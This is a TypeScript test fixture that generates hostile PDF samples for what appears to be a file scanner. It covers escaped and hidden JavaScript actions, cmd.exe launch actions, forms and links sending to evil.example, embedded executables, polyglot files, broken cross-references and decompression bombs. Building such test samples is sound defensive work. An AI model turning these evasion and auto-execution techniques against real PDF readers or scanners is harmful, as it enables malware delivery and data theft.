import { gzipSync } from 'node:zlib';
import { docx } from './office-maker.js';
import { compressed, onePage, pdf, revised, stream } from './pdf-maker.js';
import { hostile, type Hostile } from './samples.js';

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const withObject = (body: string | Buffer, catalog = ''): Buffer => pdf({ ...onePage(catalog), 5: body });
const opening = (action: string, more: Record<number, string> = {}): Buffer => pdf({ ...onePage(`/OpenAction ${action}`), ...more });
const after = (text: string | Buffer): Buffer => Buffer.concat([pdf(), Buffer.from(text as string)]);
const link = (address: string): Buffer => withObject(`<< /Type /Annot /Subtype /Link /A << /S /URI /URI ${address} >> >>`);

/** An object inside an image’s bytes: the cross-references lead into them. */
function pointingInside(): Buffer {
  const hidden = `7  0  obj ${script} endobj`.replace('obj', 'oBj');
  const file = withObject(stream('/Subtype /Image', Buffer.from(hidden))).toString('latin1');
  const place = String(file.indexOf('7  0')).padStart(10, '0');
  // Not “obj”: so that only the cross-reference tells.
  return Buffer.from(file.replace('xref\n0 1', `xref\n7 1\n${place} 00000 n \n0 1`), 'latin1');
}

const scripts = (): Record<string, Buffer> => ({
  'an action at opening': opening(script),
  'a name tree of scripts': pdf(onePage('/Names << /JavaScript << /Names [(x) 5 0 R] >> >>')),
  'a name with escapes': withObject('<< /S /J#61v#61Script >>'),
  'a key with escapes': withObject('<< /#4aS (x) >>'),
  'behind a comment': withObject('<< /S % >>\n/JavaScript >>'),
  'in an object stream': compressed({ ...simple(), 5: script }),
  'in an object stream, with escapes': compressed({ ...simple(), 5: '<</S/JavaScr#69pt>>' }),
  'in a later revision': revised(pdf(), { 5: script, 1: '<< /Type /Catalog /Pages 2 0 R /Q 5 0 R >>' }),
  'in a former revision': revised(withObject(script), { 5: 'null' }),
  'in an object that nothing refers to': withObject(`[[[<< /K ${script} >>]]]`),
  'after a stream whose length lies': pdf({ ...onePage(), 5: `<< /Length 9000 >>\nstream\nx\nendstream\nendobj\n8 0 obj\n${script}` }),
});

/** Objects that may stand in an object stream: the page has no content. */
const simple = (): Record<number, string> => ({ 1: '<< /Type /Catalog /Pages 2 0 R >>', 2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', 3: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>' });

const doing = (): Hostile[] => [
  ...hostile('script', 'avis.pdf', scripts()),
  ...hostile('opens_by_itself', 'avis.pdf', {
    'a program started at opening': opening('<< /S /Launch /F (cmd.exe) >>'),
    'a program started by a click': withObject('<< /A << /S /Launch /Win << /F (cmd.exe) >> >> >>'),
    'an address opened at opening': opening('<< /S /URI /URI (https://example.org/) >>'),
    'an address opened by an object that follows': opening('5 0 R', { 5: '<< /S /URI /URI (https://example.org/) >>' }),
    'an action after the one that shows a page': opening('<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>'),
    'an action behind two references': opening('5 0 R', { 5: '6 0 R', 6: '[3 0 R /Fit]' }),
    'an action of a page': pdf({ ...onePage(), 5: '<< /AA << /O 6 0 R >> >>' }),
    'an action in an object stream': compressed({ ...simple(), 1: '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Named /N /Print >> >>' }),
  }),
  ...hostile('embedded_file', 'avis.pdf', {
    'an attached file': withObject(stream('/Type /EmbeddedFile', Buffer.from('MZ'))),
    'a list of attached files': pdf(onePage('/Names << /EmbeddedFiles 5 0 R >>')),
    'a file pinned to the page': withObject('<< /Type /Annot /Subtype /FileAttachment >>'),
  }),
  ...hostile('active_form', 'avis.pdf', {
    'an XFA form': pdf(onePage('/AcroForm << /XFA 5 0 R >>')), 'a form that sends': withObject('<< /S /SubmitForm /F (http://evil.example/) >>'), 'a form that reads': withObject('<< /S /ImportData >>'),
  }),
  ...hostile('media', 'avis.pdf', { 'a rich medium': withObject('<< /Subtype /RichMedia >>'), 'a film': withObject('<< /Subtype /Movie >>'), 'a sound': withObject('<< /S /Sound >>'), 'a body in space': withObject('<< /Subtype /3D >>') }),
  ...hostile('external_content', 'avis.pdf', {
    'a way to another document': withObject('<< /S /GoToR /F (x.pdf) >>'), 'a way into an attached one': withObject('<< /S /GoToE >>'),
    'a link to a script': link('(java\\163cript:alert)'), 'a link to a share': link('(\\\\\\\\evil.example\\\\x)'), 'a link to a file, in hexadecimal': link('<66696c653a2f2f2f78>'),
    'a stream of another file': withObject('<< /Length 0 /F (http://evil.example/) >>\nstream\n\nendstream'),
  }),
];

const hiding = (): Hostile[] => [
  ...hostile('encrypted', 'avis.pdf', { 'a password': pdf(onePage(), { trailer: '/Encrypt 5 0 R' }) }),
  ...hostile('hidden_data', 'avis.pdf', {
    'bytes before': Buffer.concat([Buffer.from('GIF89a\n'), pdf()]), 'an archive after': after(docx()), 'a program after': after('MZ\x90'), 'a page after': after('<html><script>1</script>'),
    'a comment after': after('%<script>'), 'a page in a long comment': pdf(onePage(), { before: `%PDF-1.7\n%${'<script>'.repeat(100)}\n` }),
    'an archive in its last stream': pdf({ ...onePage(), 5: stream('', docx()) }),
    'a stream full of beginnings': withObject(stream('', Buffer.alloc(8e6, '1 obj '))),
    'an object inside a stream': withObject(stream('', Buffer.from(`9 0 obj ${script} endobj`))),
  }),
  ...hostile('damaged', 'avis.pdf', {
    'cross-references into a stream': pointingInside(),
    'a start that leads nowhere': Buffer.from(pdf().toString('latin1').replace(/startxref\n\d+/, 'startxref\n5'), 'latin1'),
    'an object stream that does not say so': compressed(simple(), {}, { type: '/Type /XObject' }),
    'an object stream with another filter': compressed(simple(), {}, { filter: '/Filter /LZWDecode' }),
    'an object stream with two filters': compressed(simple(), {}, { filter: '/Filter [/FlateDecode /FlateDecode]' }),
    'an object stream that is none': compressed(simple(), {}, { deflate: gzipSync }),
    'a type said twice': withObject('<< /Type /Annot /Type /Catalog >>'),
    'its end cut off': pdf().subarray(0, -20), 'its middle cut out': Buffer.concat([pdf().subarray(0, 80), pdf().subarray(120)]),
  }),
  ...hostile('inflates_too_much', 'avis.pdf', { 'an object stream of 60 MB': compressed({ 5: `(${' '.repeat(60e6)})` }) }),
  ...hostile('too_complex', 'avis.pdf', { 'millions of empty dictionaries': pdf({ ...onePage(), ...Array.from({ length: 10 }, () => `[${'<<>>'.repeat(450_000)}]`) }), 'arrays inside arrays': withObject('['.repeat(5000)), 'an object without end': withObject(`(${'x'.repeat(18e6)}`) }),
  ...hostile('not_what_it_says', 'avis.pdf', { 'a page': Buffer.from('<!DOCTYPE html><script>1</script>'), 'an archive': docx(), 'a program': Buffer.from('MZ\x90') }),
  ...hostile('empty', 'avis.pdf', { nothing: Buffer.alloc(0) }),
];

export const hostilePdfs = (): Hostile[] => [...doing(), ...hiding()];
